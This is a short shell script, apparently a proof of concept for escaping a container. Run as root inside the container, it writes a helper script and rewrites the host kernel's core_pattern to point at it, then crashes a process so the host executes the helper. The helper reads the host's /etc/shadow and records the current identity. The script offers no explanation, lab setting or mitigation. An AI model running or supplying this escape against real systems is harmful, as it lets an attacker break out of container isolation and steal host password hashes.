# Run as root in a container: has the host's kernel start a program of the container,
# on the host, for the next process that crashes.
cat >/helper <<'HELPER'
#!/bin/sh
{ id; head -n1 /etc/shadow; } >/srv/.ran
mv /srv/.ran /srv/ran
HELPER
chmod 755 /helper
echo '|/proc/%P/root/helper' >/proc/sys/kernel/core_pattern
sh -c 'kill -SEGV $$'
true
